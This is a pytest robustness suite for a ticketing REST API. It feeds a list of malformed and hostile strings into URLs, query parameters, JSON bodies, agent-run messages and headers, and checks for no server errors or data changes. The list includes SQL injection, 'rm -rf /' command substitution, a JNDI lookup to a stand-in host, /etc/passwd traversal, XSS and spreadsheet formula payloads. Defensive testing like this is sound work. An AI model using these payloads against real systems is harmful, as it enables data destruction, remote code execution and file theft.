"""Strings that break programs, wherever a client can put one: never a 5xx, never another's data, nothing changed."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote
from uuid import UUID, uuid4

import pytest

from boxoffice.domain.cards import mask_card_numbers
from boxoffice.use_cases.open_case import open_case
from tests.lambdas.rest_api.client import Answer, Rest
from tests.use_cases.world import World

STRINGS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x1b\x7f",
    "\x80\x85\x9f",
    "\t",
    "\n",
    "\r\n",
    "\ufeff",
    "\ufffe",
    "\uffff",
    "\u200b\u200d\u2060",
    "\u202e\u2066txt.exe\u2069",
    "\u2028\u2029",
    "\ud800",
    "\udfff",
    "\ud83d",
    "😀👩‍👩‍👧‍👦🏳️‍🌈",
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
    "ﷺ" * 40,
    "田中さんにあげて下さい",
    "مُنَاقَشَةُ",
    "שלום",
    "ÅÍÎÏ˝ÓÔÒÚÆ☃",
    "١٢٣",
    "İıſẞß",
    "' OR 1=1; --",
    "'; DROP TABLE customers; --",
    '"\\"',
    "\\",
    "\\u0000",
    "$(rm -rf /)",
    "`id`",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "%s%d%n%x",
    "%00",
    "%2e%2e%2f",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "]]><!--",
    "=cmd|' /C calc'!A0",
    "null",
    "undefined",
    "NaN",
    "Infinity",
    "-1",
    "0",
    "1e309",
    "123456789012345678901234567890123456789",
    "0x7fffffff",
    "9" * 400,
    "__proto__",
    "constructor",
    "self",
    "x" * 5_000,
    "(" * 2_000,
    ":name :id ::uuid",
    "$1 ? @p",
]


def shared_strings() -> list[str]:
    """A long list from elsewhere, for who has one: BOXOFFICE_SHARED_DATA names its folder."""
    folder = os.environ.get("BOXOFFICE_SHARED_DATA")
    if not folder:
        return []
    found: list[str] = json.loads((Path(folder) / "naughty_strings.json").read_text())
    return found


@pytest.fixture(scope="module", params=["own", "shared"])
def strings(request: pytest.FixtureRequest) -> list[str]:
    if request.param == "own":
        return STRINGS
    found = shared_strings()
    if not found:
        pytest.skip("BOXOFFICE_SHARED_DATA names no folder with naughty_strings.json")
    return found


@pytest.fixture(scope="module")
def case(venue: World) -> UUID:
    house, database = venue.house, venue.databases.customer
    return open_case(
        house, database, venue.ann, conversation_id=None, reason="complaint", summary="x", key=str(uuid4())
    ).id


@pytest.fixture
def unharmed(venue: World) -> Iterator[None]:
    """Whatever was sent: no customer more or less, no ticket, no order, and Bob is who he was."""

    def state() -> dict[str, object]:
        return venue.one(
            "SELECT (SELECT count(*) FROM customers) AS customers, (SELECT count(*) FROM tickets) AS tickets,"
            " (SELECT count(*) FROM upgrade_orders) AS orders, (SELECT count(*) FROM payments) AS payments,"
            " (SELECT CAST(to_jsonb(c) AS text) FROM customers c WHERE cognito_sub = 'sub-bob') AS bob"
        )

    before = state()
    yield
    assert state() == before


def below_500(answers: dict[str, Answer]) -> None:
    bad = {place: answer for place, answer in answers.items() if answer.status >= 500}
    assert not bad


@pytest.mark.usefixtures("unharmed")
def test_in_addresses_and_questions(ann: Rest, staff: Rest, strings: list[str]) -> None:
    for text in strings:
        for place in (text, quote(text, safe="", errors="replace")):
            below_500(
                {
                    path: ann.call(method, path)
                    for method, path in (
                        ("GET", f"/{place}"),
                        ("GET", f"/tickets/{place}"),
                        ("GET", f"/orders/{place}"),
                        ("DELETE", f"/orders/{place}"),
                        ("GET", f"/cases/{place}"),
                        ("GET", f"/conversations/{place}/messages"),
                        ("GET", f"/conversations/{uuid4()}/runs/{place}/events"),
                    )
                }
            )
        below_500({f"{path}?{name}": ann.get(path, **{name: text}) for path, name in (
            ("/tickets", "limit"), ("/tickets", "cursor"), ("/orders", "cursor"), ("/conversations", "cursor"),
            ("/cases", "cursor"), ("/cases", "status"), ("/upgrade-options", "ticketId"), ("/tickets", text or "x"),
        )})  # fmt: skip
        below_500({"assignee": staff.get("/cases", assignee=text)})
        below_500({name: ann.get("/upgrade-options", ticketId=uuid4(), **{name: text}) for name in ("from", "to")})


@pytest.mark.usefixtures("unharmed")
def test_in_bodies(ann: Rest, staff: Rest, venue: World, case: UUID, strings: list[str]) -> None:
    order = {"ticketIds": [str(uuid4())], "tier": "standard", "visitDate": venue.day(3).isoformat()}
    pay = {"paymentMethod": "pm_1", "amount": {"amount": "1.00", "currency": "EUR"}}
    for text in strings:
        below_500(
            {
                **{name: ann.post("/orders", {**order, name: text}) for name in (*order, text)},
                "ticket": ann.post("/orders", {**order, "ticketIds": [text]}),
                **{name: ann.post(f"/orders/{uuid4()}/payment", {**pay, name: text}) for name in (*pay, text)},
                **{
                    f"amount.{name}": ann.post(
                        f"/orders/{uuid4()}/payment",
                        {**pay, "amount": {**pay["amount"], name: text}},  # type: ignore[dict-item]  # a JSON object
                    )
                    for name in ("amount", "currency", text)
                },
                "case": ann.patch(f"/cases/{case}", {"version": 1, "status": text}),
                "assignee": staff.patch(f"/cases/{uuid4()}", {"version": 1, "assignee": text}),
                "raw": ann.call("PATCH", "/me", text=text),
            }
        )


def test_what_a_customer_may_write_comes_back_but_for_card_numbers(
    ann: Rest, staff: Rest, case: UUID, strings: list[str]
) -> None:
    for text in strings:
        named = ann.patch("/me", {"firstName": text})
        assert named.status in (200, 400)
        if named.status == 200:
            assert ann.get("/me").ok()["firstName"] == mask_card_numbers(text.strip())
        said = ann.post(f"/cases/{case}/messages", {"body": text})
        assert said.status in (201, 400, 413)
        if said.status == 201:
            assert staff.get(f"/cases/{case}").ok()["messages"][-1]["body"] == mask_card_numbers(text.strip())


def run_of(conversation: str, **changed: Any) -> dict[str, Any]:
    wanted = {
        "threadId": conversation, "runId": f"r-{uuid4()}", "state": {}, "tools": [], "context": [],
        "forwardedProps": {}, "messages": [{"id": f"m-{uuid4()}", "role": "user", "content": "Hello"}],
    }  # fmt: skip
    return {**wanted, **changed}


@pytest.mark.usefixtures("unharmed")
def test_in_runs_that_are_refused(ann: Rest, strings: list[str]) -> None:
    conversation = str(ann.post("/conversations").ok(201)["conversationId"])
    path = f"/conversations/{uuid4()}/runs"
    for text in strings:
        below_500(
            {
                "thread": ann.post(f"/conversations/{conversation}/runs", run_of(text)),
                "run": ann.post(path, run_of(path.split("/")[2], runId=text)),
                "text": ann.post(
                    path, run_of(path.split("/")[2], messages=[{"id": "m", "role": "user", "content": text}])
                ),
                "message": ann.post(
                    path, run_of(path.split("/")[2], messages=[{"id": text, "role": "user", "content": "x"}])
                ),
                "role": ann.post(path, run_of(conversation, messages=[{"id": "m", "role": text, "content": "x"}])),
                "interrupt": ann.post(
                    path, run_of(path.split("/")[2], resume=[{"interruptId": text, "status": "cancelled"}])
                ),
            }
        )


@pytest.mark.usefixtures("unharmed")
def test_in_headers(ann: Rest, venue: World, strings: list[str]) -> None:
    order = {"ticketIds": [str(uuid4())], "tier": "standard", "visitDate": venue.day(3).isoformat()}
    for text in strings:
        below_500(
            {
                "Idempotency-Key": ann.call("POST", "/orders", body=order, headers={"Idempotency-Key": text}),
                "Authorization": ann.call("POST", "/socket-tickets", body={}, headers={"Authorization": text}),
                "Content-Type": ann.call("PATCH", "/me", body={}, headers={"Content-Type": text}),
                "Cookie": ann.call("GET", "/nothing", headers={"Cookie": text}),
                "Accept-Encoding": ann.call("GET", "/nothing", headers={"Accept-Encoding": text}),
                "any": ann.call("GET", "/nothing", headers={text or "x": text}),
            }
        )
